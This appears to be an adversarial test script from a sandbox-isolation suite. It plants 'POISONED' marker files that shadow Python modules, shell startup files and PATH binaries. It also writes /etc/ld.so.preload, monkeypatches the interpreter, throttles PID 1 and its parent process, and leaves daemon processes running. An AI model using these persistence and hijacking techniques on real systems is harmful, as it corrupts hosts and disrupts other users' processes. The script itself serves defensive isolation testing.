# 31: leaves behind what it can: in every place that it can write, in its own interpreter, and in the kernel.
import atexit, builtins, gc, random, resource, signal, socket, threading, time

POISON = "import sys\nfor s in (sys.stdout, sys.stderr):\n    print('POISONED by', __name__, file=s)\n"
version = f"python{sys.version_info.major}.{sys.version_info.minor}"
written = 0


def plant(path, content=POISON, mode=0o777):
    global written
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as file:
            file.write(content)
        os.chmod(path, mode)
        written += 1
    except OSError:
        pass


MODULES = """json os sys time site sitecustomize usercustomize io re codecs encodings linecache traceback inspect
asyncio _json struct random socket threading signal ctypes builtins runner main importlib types collections abc
hashlib gc resource warnings tokenize textwrap fcntl sandmesh zygote _sandmesh""".split()
for module in MODULES:
    for dir in ("/workspace", "/tmp", "/dev/shm", "/workspace/lib", f"/workspace/.local/lib/{version}/site-packages", "/usr/lib/python3/dist-packages", f"/usr/local/lib/{version}/dist-packages", f"/usr/lib/{version}", "/.sandmesh"):
        plant(f"{dir}/{module}.py")
    plant(f"/workspace/{module}/__init__.py")
    plant(f"/workspace/__pycache__/{module}.cpython-{sys.version_info.major}{sys.version_info.minor}.pyc")
for dir in (f"/workspace/.local/lib/{version}/site-packages", "/workspace", "/tmp", f"/usr/local/lib/{version}/dist-packages"):
    plant(f"{dir}/poison.pth", "import sys; print('POISONED by .pth'); sys.stderr.write('POISONED by .pth')\n")
    plant(f"{dir}/python312._pth", ".\n")
plant("/workspace/pyvenv.cfg", "home = /workspace\n")
for name in (".bashrc", ".bash_profile", ".profile", ".bash_login", ".shrc", ".zshenv", ".inputrc", ".env", ".noderc.js", ".node_repl_history"):
    plant(f"/workspace/{name}", "echo POISONED by startup file; echo POISONED >&2\n")
for name in ("sh", "bash", "node", "python3", "python", "env", "ls", "cat", "echo", "true"):
    for dir in ("/workspace", "/workspace/bin", "/workspace/.local/bin", "/tmp", "/usr/local/bin"):
        plant(f"{dir}/{name}", "#!/bin/sh\necho POISONED by PATH\necho POISONED >&2\n")
for name in ("fs", "path", "vm", "module", "util", "runner", "events", "crypto"):
    plant(f"/workspace/node_modules/{name}/index.js", "console.log('POISONED'); console.error('POISONED')\n")
    plant(f"/workspace/{name}.js", "console.log('POISONED'); console.error('POISONED')\n")
    plant(f"/workspace/.node_modules/{name}/index.js", "console.log('POISONED'); console.error('POISONED')\n")
plant("/etc/ld.so.preload", "/workspace/evil.so\n")
plant("/tmp/.sandmesh/script.sh", "echo POISONED\n")
plant("/tmp/.sandmesh/result.json", '"POISONED"')
plant("/dev/mqueue/poison", "x")

# The interpreter itself, as far as a parent or a sibling could share it.
builtins.print_before, builtins.poison = print, "POISONED"
builtins.len = lambda *a: 13
json.dumps = json.loads = lambda *a, **k: "POISONED"
sys.modules["poison"] = sys
sys.path.insert(0, "/workspace")
sys.meta_path.insert(0, type("Finder", (), {"find_spec": staticmethod(lambda *a: None)}))
sys.excepthook = lambda *a: builtins.print_before("POISONED by hook")
sys.setrecursionlimit(77)
sys.setswitchinterval(9)
gc.disable()
os.environ["POISON"] = os.environ["PATH"] = "/workspace:POISONED"
os.environ["PYTHONPATH"] = os.environ["LD_PRELOAD"] = os.environ["BASH_ENV"] = "/workspace/.bashrc"
os.getpid = os.urandom = lambda *a: b"POISONED"

random.seed(1)
random.random = lambda: 0.5
threading.settrace(lambda *a: None)
atexit.register(lambda: None)
# Small numbers and None are shared objects; written to as raw memory.
ctypes.memmove(id(7) + 24, b"\x09\0\0\0", 4)
# And the process, as far as the kernel keeps it.
os.umask(0)
for number_ in range(1, 65):
    try:
        signal.signal(number_, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
for kind in range(16):
    try:
        soft, hard = resource.getrlimit(kind)
        if kind not in (resource.RLIMIT_AS, resource.RLIMIT_DATA, resource.RLIMIT_STACK, resource.RLIMIT_CPU, resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE):
            resource.setrlimit(kind, (min(64, hard) if hard >= 0 else 64, min(64, hard) if hard >= 0 else 64))
    except (OSError, ValueError):
        pass
for function in (lambda: os.nice(5), lambda: os.sched_setaffinity(0, {0}), lambda: os.sched_setscheduler(0, 3, os.sched_param(0)), lambda: open("/proc/self/oom_score_adj", "w").write("900"), lambda: os.chdir("/tmp")):
    try:
        function()
    except OSError:
        pass
for path in ("/proc/1/oom_score_adj", "/proc/sys/kernel/shmmax", "/proc/sys/kernel/msgmax", "/proc/sys/kernel/pid_max", "/proc/sys/fs/mqueue/msg_max"):
    try:
        open(path, "w").write("400")
    except OSError:
        pass
# The first process and the parent, where they let us.
for pid in {1, os.getppid()}:
    for kind, value in ((resource.RLIMIT_NOFILE, 40), (resource.RLIMIT_NPROC, 3), (resource.RLIMIT_STACK, 1 << 20), (resource.RLIMIT_CORE, 0), (resource.RLIMIT_MEMLOCK, 0)):
        try:
            resource.prlimit(pid, kind, (value, value))
        except (OSError, ValueError):
            pass
    for function in (lambda: os.sched_setaffinity(pid, {0}), lambda: os.setpriority(os.PRIO_PROCESS, pid, 19), lambda: os.sched_setscheduler(pid, 3, os.sched_param(0))):
        try:
            function()
        except OSError:
            pass
libc.shmget(0x5177, 65536, 0o1666)
libc.msgget(0x5177, 0o1666)
libc.semget(0x5177, 4, 0o1666)
named = socket.socket(socket.AF_UNIX)
named.bind("\0poison")
named.listen(1)
tcp = socket.socket()
tcp.bind(("127.0.0.1", 5177))
tcp.listen(1)
# Processes that want to be there for the next one.
for n in range(4):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            while True:
                time.sleep(0.2)
        os._exit(0)
os.write(1, (f"planted {written}\n").encode())
os._exit(0)
